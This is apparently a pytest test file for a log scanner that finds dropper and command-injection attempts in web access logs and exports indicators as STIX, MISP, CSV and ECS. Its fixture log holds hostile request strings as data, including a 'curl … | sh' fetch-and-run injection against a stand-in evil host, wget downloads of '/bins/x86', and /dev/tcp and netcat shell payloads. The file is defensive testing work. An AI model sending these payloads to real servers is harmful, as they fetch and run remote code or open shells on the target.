"""`dropscan iocs` (STIX 2.1, MISP, csv, txt) and `scan -f ecs`, each checked by the ecosystem's
own validator or loader: stix2.parse and the OASIS stix2-validator, pymisp's MISPEvent.load."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from conftest import DEVTCP, NC_LOOPBACK, WGET, combined_line, dropscan_main, vhost_line
from dropscan.cli import app

LINES = [
    vhost_line("shop.example.com", WGET, status=200, when="27/Nov/2026:10:00:00 +0000"),
    vhost_line("shop.example.com", WGET, status=404, when="27/Nov/2026:11:00:00 +0000"),
    vhost_line("api.example.com", WGET, when="27/Nov/2026:12:00:00 +0000"),
    vhost_line("api.example.com", "/x?c=;curl%20-s%20http://dl.evil.example/a.sh|sh"),
    vhost_line("api.example.com", DEVTCP),
    vhost_line("api.example.com", NC_LOOPBACK),  # 127.0.0.1: never an indicator
    vhost_line("api.example.com", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),  # no destination
    vhost_line("api.example.com", "/index.html"),
    # a rejected line: no indicator from it
    b'203.0.113.9 - - [27/Nov/2026 "GET /x?c=;wget%20http://203.0.113.250/x HTTP/1.1" 200\n',
]


@pytest.fixture()
def log(tmp_path):
    p = tmp_path / "other_vhosts_access.log"
    p.write_bytes(b"".join(LINES))
    return p


def iocs(runner, log, *args):
    r = runner.invoke(app, ["iocs", str(log), "-l", "vhost_combined", *args], catch_exceptions=False)
    return r


def test_txt_is_one_destination_a_line_without_private_or_rejected(runner, log):
    r = iocs(runner, log, "-f", "txt")
    assert r.exit_code == 1
    assert r.stdout.splitlines() == ["198.51.100.20", "203.0.113.77", "dl.evil.example"]
    assert iocs(runner, log, "-f", "txt", "--only", "ip").stdout.splitlines() == ["198.51.100.20", "203.0.113.77"]
    assert iocs(runner, log, "-f", "txt", "--only", "domain").stdout.splitlines() == ["dl.evil.example"]
    assert "1 private/reserved destination(s) not exported" in r.stderr
    assert "1 finding(s) on lines that are not requests give none" in r.stderr


def test_csv_has_every_fact(runner, log):
    rows = list(csv.DictReader(io.StringIO(iocs(runner, log, "-f", "csv").stdout)))
    by = {(r["host"], r["port"]): r for r in rows}
    wget = by[("198.51.100.20", "8080")]
    assert (wget["findings"], wget["receiving_hosts"], wget["internal"]) == (
        "3",
        "api.example.com shop.example.com",
        "False",
    )
    assert wget["first_seen"] == "2026-11-27T10:00:00+00:00" and wget["last_seen"] == "2026-11-27T12:00:00+00:00"
    assert by[("127.0.0.1", "4444")]["internal"] == "True"
    assert by[("dl.evil.example", "80")]["ip_literal"] == "False"


def test_stix_bundle_is_valid_for_stix2_and_the_oasis_validator(runner, log):
    stix2 = pytest.importorskip("stix2")
    validator = pytest.importorskip("stix2validator")
    text = iocs(runner, log, "-f", "stix").stdout
    bundle = stix2.parse(text, allow_custom=True)
    result = validator.validate_string(text, validator.ValidationOptions(strict=True))
    assert result.is_valid and not result.errors and not result.warnings, [str(e) for e in result.errors]
    by_type: dict[str, list] = {}
    for o in bundle.objects:
        by_type.setdefault(o.type, []).append(o)
    patterns = {i.x_dropscan_host: i.pattern for i in by_type["indicator"]}
    assert set(patterns) == {"198.51.100.20", "203.0.113.77", "dl.evil.example"}  # no 127.0.0.1
    assert "network-traffic:dst_port = 8080" in patterns["198.51.100.20"]
    assert "[url:value = 'http://198.51.100.20:8080/bins/x86']" in patterns["198.51.100.20"]
    wget = next(i for i in by_type["indicator"] if i.x_dropscan_host == "198.51.100.20")
    sightings = {s.where_sighted_refs[0]: s for s in by_type["sighting"] if s.sighting_of_ref == wget.id}
    names = {o.id: o.name for o in by_type["identity"]}
    assert {names[k]: s.count for k, s in sightings.items()} == {"shop.example.com": 2, "api.example.com": 1}
    techniques = {r.external_id for ap in by_type["attack-pattern"] for r in ap.external_references}
    assert "T1105" in techniques
    notes = [n for n in by_type["note"] if wget.id in n.object_refs]
    assert "wget http://198.51.100.20:8080/bins/x86" in notes[0].content
    assert any(m.id == stix2.TLP_AMBER.id for m in by_type["marking-definition"])
    assert iocs(runner, log, "-f", "stix").stdout == text  # deterministic ids and times


def test_misp_event_loads_in_pymisp(runner, log):
    pymisp = pytest.importorskip("pymisp")
    text = iocs(runner, log, "-f", "misp", "--tlp", "green").stdout
    ev = pymisp.MISPEvent()
    ev.load(text)
    attrs = {(a.type, a.value): a for a in ev.attributes}
    assert attrs[("ip-dst|port", "198.51.100.20|8080")].to_ids is True
    assert attrs[("domain", "dl.evil.example")].to_ids is True
    assert attrs[("ip-dst", "127.0.0.1")].to_ids is False  # context only
    assert ("ip-dst", "203.0.113.250") not in attrs  # the rejected line gave nothing
    tags = {t.name for t in attrs[("url", "http://198.51.100.20:8080/bins/x86")].tags}
    assert 'mitre-attack:attack-pattern="T1105"' in tags and 'dropscan:rule="dropper.wget"' in tags
    assert [t.name for t in ev.tags] == ["tlp:green"]
    assert len(ev.objects) == 6 and all(o.name == "http-request" for o in ev.objects)
    assert iocs(runner, log, "-f", "misp", "--tlp", "green").stdout == text


def test_wildcard_and_via_resolver_destinations_carry_their_facts():
    from dropscan.detect.egress import Destination
    from dropscan.detect.findings import Finding
    from dropscan.engine import default_signatures
    from dropscan.exports import misp, stix, text
    from dropscan.exports.indicators import collect

    if "wildcard" not in Destination.__dataclass_fields__:
        pytest.skip("Destination.wildcard (issue 12) has not landed")
    dests = [
        Destination("oob.example", 53, "dns", False, wildcard=True),
        Destination("198.51.100.4", None, "icmp", True),
    ]
    f = Finding(
        "a.log",
        1,
        0,
        None,
        "web",
        "203.0.113.1",
        "GET",
        "GET /x HTTP/1.1",
        200,
        1,
        None,
        None,
        "target",
        "/x",
        ["dropper.wget"],
        "dropper",
        "critical",
        dests,
    )
    found = collect([f], lambda _f: "web")
    assert text.txt(found).splitlines() == ["198.51.100.4", "*.oob.example"]
    b = stix.bundle(found, default_signatures())
    pats = [o.pattern for o in b.objects if o.type == "indicator"]
    assert "[domain-name:value LIKE '%.oob.example']" in " ".join(pats) or any(
        "LIKE '%.oob.example'" in p for p in pats
    )
    assert "[ipv4-addr:value = '198.51.100.4']" in pats
    ev = misp.event(found, [f], default_signatures())
    dom = next(a for a in ev.attributes if a.type == "domain")
    assert {"dropscan:wildcard", "dropscan:via-resolver"} <= {t.name for t in dom.tags}


def test_missing_intel_extra_is_one_line_naming_it(log):
    code = "import sys; sys.modules['stix2'] = None; from dropscan.cli import main; main()"
    r = subprocess.run([sys.executable, "-c", code, "iocs", str(log), "-f", "stix"], capture_output=True, text=True)
    assert r.returncode == 2
    assert (
        r.stderr.strip()
        == "dropscan: error: STIX output needs the optional 'intel' extra: pip install 'dropscan[intel]'"
    )


# ECS has no validator on PyPI: the documents are checked against the ECS 8.11 types of every
# field they use (from the ECS field reference).
ECS_TYPES = {
    "@timestamp": str,
    "event.kind": str,
    "event.category": list,
    "event.type": list,
    "event.severity": int,
    "event.dataset": str,
    "event.module": str,
    "ecs.version": str,
    "log.file.path": str,
    "log.offset": int,
    "source.ip": str,
    "server.domain": str,
    "url.original": str,
    "url.path": str,
    "url.query": str,
    "http.request.method": str,
    "http.response.status_code": int,
    "http.response.body.bytes": int,
    "user_agent.original": str,
    "rule.id": str,
    "rule.name": str,
    "rule.category": str,
    "rule.ruleset": str,
    "threat.framework": str,
    "threat.technique.id": list,
    "threat.technique.reference": list,
    "destination.address": str,
    "destination.ip": str,
    "destination.domain": str,
    "destination.port": int,
}
EVENT_CATEGORIES = {"web", "intrusion_detection", "network", "threat"}


def _flat(d, prefix=""):
    for k, v in d.items():
        if isinstance(v, dict) and not k.startswith("dropscan"):
            yield from _flat(v, f"{prefix}{k}.")
        else:
            yield f"{prefix}{k}", v


def test_scan_ecs_documents(runner, log):
    import ipaddress

    r = runner.invoke(app, ["scan", str(log), "-l", "vhost_combined", "-f", "ecs"], catch_exceptions=False)
    docs = [json.loads(x) for x in r.stdout.splitlines()]
    assert len(docs) == 8  # 7 requests and the rejected line, like -f jsonl
    for d in docs:
        for name, value in _flat(d):
            if name == "dropscan":
                continue
            assert name in ECS_TYPES, name
            assert isinstance(value, ECS_TYPES[name]), (name, value)
        assert d["event"]["kind"] == "alert" and set(d["event"]["category"]) <= EVENT_CATEGORIES
        if "source" in d:
            ipaddress.ip_address(d["source"]["ip"])
    first = docs[0]
    assert first["url"] == {"original": WGET, "path": "/cgi-bin/ping.cgi", "query": WGET.split("?", 1)[1]}
    assert first["destination"] == {"address": "198.51.100.20", "ip": "198.51.100.20", "port": 8080}
    assert first["rule"]["id"] == "dropper.wget" and "T1105" in first["threat"]["technique"]["id"]
    assert first["server"]["domain"] == "shop.example.com" and first["http"]["response"]["status_code"] == 200
    assert [e["host"] for e in first["dropscan"]["egress"]] == ["198.51.100.20"]


def test_iocs_on_nothing_found_says_what_it_read(tmp_path):
    p = tmp_path / "access.log"
    p.write_bytes(combined_line("/") * 2)
    r = dropscan_main("iocs", str(p), "-f", "txt")
    assert r.returncode == 0 and r.stdout == ""
    assert "0 indicator(s) from 0 finding(s) (0 naming a destination) in 1 file(s), 2 lines" in r.stderr


def test_iocs_refuses_to_overwrite_an_input_and_misplaced_options(log):
    before = log.read_bytes()
    r = dropscan_main("iocs", str(log), "-f", "txt", "-o", str(log))
    assert r.returncode == 2 and "is an input" in r.stderr and log.read_bytes() == before
    r = dropscan_main("iocs", str(log), "-f", "stix", "--only", "ip")
    assert r.returncode == 2 and "--only applies to -f txt and csv" in r.stderr
